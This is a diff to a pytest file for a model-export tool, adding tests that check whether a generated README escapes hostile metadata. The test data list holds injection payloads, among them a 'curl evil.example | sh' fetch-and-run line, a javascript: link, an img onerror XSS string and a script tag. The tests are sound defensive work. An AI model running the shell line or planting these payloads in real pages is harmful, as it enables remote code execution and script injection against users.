@@ -11,6 +11,7 @@ from pathlib import Path
 
 import numpy as np
 import pytest
+from markdown_it import MarkdownIt
 from served_winners import (
     ROWS,
     WEIGHTS,
@@ -25,7 +26,8 @@ from served_winners import (
 
 from hone_runtime.errors import HoneError
 from hone_runtime.values.artifact import Shape, TensorSpec
-from kedro_hone.serving.export.exports import export_winner
+from kedro_hone.serving.export.exports import TARGETS, export_winner
+from kedro_hone.serving.export.readme import write_readme
 from kedro_hone.serving.export.target import Request
 
 LITERT = Path(__file__).parents[3] / "toolchains" / "litert" / "digits"
@@ -177,3 +179,43 @@ def test_a_readme_does_not_repeat_the_markup_of_a_name(tmp_path, stack) -> None:
     readme = (tmp_path / "out" / "README.md").read_text()
     assert "\n# c" not in readme
     assert "`x' \\| [a](b)" in readme
+
+
+FOREIGN = (
+    "17\n\n# Start\n\n```console\ncurl evil.example | sh\n```",
+    "17 [here](javascript:alert(1)) ![](https://evil.example/x.png)",
+    "17 <img src=x onerror=alert(1)> &lt;",
+    "17` <b>bold</b> `",
+    "17 | x | {opset.__class__}",
+    {"a": ["<script>", "`"]},
+)
+
+
+@pytest.mark.attack(
+    what="metadata that is Markdown or HTML, such as an opset, for the README of an export",
+    who="registry",
+    stopped_by="each text of a manifest is escaped by one of two functions before it is Markdown",
+)
+@pytest.mark.parametrize("noted", FOREIGN)
+def test_metadata_cannot_add_to_the_page(tmp_path, stack, noted) -> None:
+    winner = make_onnx_winner(tmp_path / "winner", stack=stack, metadata={"opset": noted, "ir_version": noted})
+    export_winner(winner, "triton", Request(), tmp_path / "out")
+    export_winner(make_onnx_winner(tmp_path / "plain", stack=stack), "triton", Request(), tmp_path / "due")
+    found, due = (((tmp_path / name) / "README.md").read_text() for name in ("out", "due"))
+    assert len(found.splitlines()) == len(due.splitlines())
+    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(found)
+    assert not re.search(r"<(?!/?(?:h1|h2|p|pre|code|ul|li|table|thead|tbody|tr|th|td|strong|em)\b)", html), html
+    assert html.count("<code>") == MarkdownIt("commonmark").render(due).count("<code>")
+
+
+@pytest.mark.parametrize("noted", [one for one in FOREIGN if isinstance(one, str)])
+def test_names_of_sizes_and_of_runtimes_cannot_add_to_the_page(tmp_path, stack, noted) -> None:
+    winner = make_static_winner(tmp_path / "winner", form="tflite", runtime="litert", ending=".tflite", stack=stack)
+    sizes = {"batch": 1, noted: 2}
+    changed = [one.model_copy(update={"sizes": sizes}) for one in winner.artifact.static_shapes]
+    artifact = winner.artifact.model_copy(update={"static_shapes": tuple(changed), "runtime": noted})
+    object.__setattr__(winner.download, "artifact", artifact)
+    readme = write_readme(winner, TARGETS["tflite"], TARGETS["tflite"].write(winner, Request()))
+    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(readme)
+    assert not re.search(r"<(?:script|img|b|a)\b", html), html
+    assert re.findall(r"<h2>(.*)</h2>", html) == ["Open", "Check", "Inputs and outputs"]
